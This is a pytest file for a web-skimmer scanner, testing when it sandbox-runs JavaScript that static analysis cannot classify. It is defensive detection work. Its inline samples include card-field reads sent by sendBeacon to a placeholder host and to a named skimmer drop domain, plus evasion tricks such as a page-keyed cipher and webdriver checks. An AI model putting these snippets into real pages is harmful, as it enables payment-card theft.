"""When `--detonate auto` runs a file: static analysis could not settle it (the reasons are a
table; each has a file that needs it and files that must not trigger it)."""

from __future__ import annotations

from pathlib import Path

import pytest

from skimscan.detonate.triage import reasons
from skimscan.pipeline import Engine, analyze_source
from tests.conftest import FIXTURES


def reasons_for(code: str, engine: Engine) -> list[str]:
    target = analyze_source(code, engine=engine)
    return reasons(target, list(engine.extract_all(list(target.sources.values())).values()))


def test_an_already_malicious_file_is_not_detonated(engine: Engine) -> None:
    code = (FIXTURES / "scripts/malicious/ba_modernizr_appended.js").read_text()
    assert reasons_for(code, engine) == []


@pytest.mark.parametrize("code", [
    "export function add(a, b) { return a + b }",
    "(function(){var x=document.querySelector('.menu');x.addEventListener('click',function(){"
    "x.classList.toggle('open')})})();",
    "fetch('/api/cart').then(function(r){return r.json()}).then(render);",
    "var g = Function('return this')(); var s = window.__p; eval(s);",  # no form in sight
    "var locale = {a: '\\u00e0\\u00e1\\u00e2\\u00e3\\u00e4', b: '\\u00e8\\u00e9'};" * 40,
])
def test_plain_code_that_touches_no_form_is_left_static(code: str, engine: Engine) -> None:
    assert reasons_for(code, engine) == []


def test_heavily_obfuscated_code_is_detonated(engine: Engine) -> None:
    code = (FIXTURES / "obfuscated/newegg_inline_kit.heavy.js").read_text()
    target = analyze_source(code, engine=engine)
    if target.verdict.value == "malicious":  # static already caught it: nothing to settle
        assert reasons_for(code, engine) == []
    code = "var _0xa=['\\x76\\x61\\x6c\\x75\\x65'];" * 30 + \
        "setTimeout(function(){var s=document.createElement('div');s.id=_0xa[0]},5);"
    assert "obfuscated" in reasons_for(code, engine)


@pytest.mark.parametrize(("code", "reason"), [
    ("document.getElementById('cc_number').addEventListener('blur', function (e) {"
     " window.__v = e.target.value.length; });", "reads card-like fields"),
    ("document.addEventListener('submit', function () { new Function(window.__p)(); });",
     "runs code static analysis could not read"),
    ("var k = document.title, p = [1, 2, 3], s = '';"
     "for (var i = 0; i < p.length; i++) s += String.fromCharCode(p[i] ^ k.charCodeAt(i));"
     "window.__s = s;", "obfuscated"),  # a cipher keyed on the page: only a browser reads it
    ("if (navigator.webdriver) { throw 0 } document.title = 'x';", "checks its environment"),
    ("document.addEventListener('change', function () {"
     " fetch(window.__u, {method: 'POST', body: location.href}); });",
     "sends to destinations static analysis could not resolve"),
])
def test_each_reason(code: str, reason: str, engine: Engine) -> None:
    assert reason in reasons_for(code, engine)


def test_hard_negative_fixtures_are_detonated_when_they_read_card_fields(engine: Engine) -> None:
    """Payment SDKs read the card: detonation must see them run (and find them clean)."""
    code = Path(FIXTURES / "scripts/benign/card_validator_luhn.js").read_text()
    assert "reads card-like fields" in reasons_for(code, engine)




BESIDE = ("document.getElementById('pay').addEventListener('click', function () {\n"
          "  var n = document.getElementById('cc_number').value.length;\n"
          "  navigator.sendBeacon('https://collect.vendor-x.example/c', 'filled'); });\n")


def test_card_reads_beside_an_unknown_send_are_detonated_although_malicious(
        engine: Engine) -> None:
    """Malicious only by co-occurrence (no taint path, an unknown host) in a script static
    analysis could not read whole (here: a statement that does not parse): running the file
    settles it, as `merge` then weighs those findings against what it sent."""
    code = BESIDE + "var broken = ;\n"
    target = analyze_source(code, engine=engine)
    assert target.verdict.value == "malicious" and not any(f.flow for f in target.findings
                                                            if f.is_blocking)
    assert reasons_for(code, engine) == [
        "static analysis found card reads beside a send, with no path between them"]


def test_card_reads_beside_a_send_in_a_script_read_whole_are_suspicious_and_detonated(
        engine: Engine) -> None:
    """Read whole, the script has no path from the card to the host: the co-occurrence is
    lowered (policy/cooccurrence.py) and the file is detonated as a suspicious one."""
    target = analyze_source(BESIDE, engine=engine)
    assert target.verdict.value == "suspicious"
    assert "static analysis found it suspicious" in reasons_for(BESIDE, engine)


@pytest.mark.parametrize("code", [
    # a taint path from the card field to the send
    "document.getElementById('pay').addEventListener('click', function () {"
    " navigator.sendBeacon('https://collect.vendor-x.example/c',"
    " document.getElementById('cc_number').value); });",
    # co-occurrence, but to a documented drop host
    "var n = document.getElementById('cc_number'); n.addEventListener('blur', function () {"
    " navigator.sendBeacon('https://baways.com/c', 'x'); });",
])
def test_proven_or_known_bad_malicious_files_are_not_detonated(code: str,
                                                               engine: Engine) -> None:
    assert analyze_source(code, engine=engine).verdict.value == "malicious"
    assert reasons_for(code, engine) == []
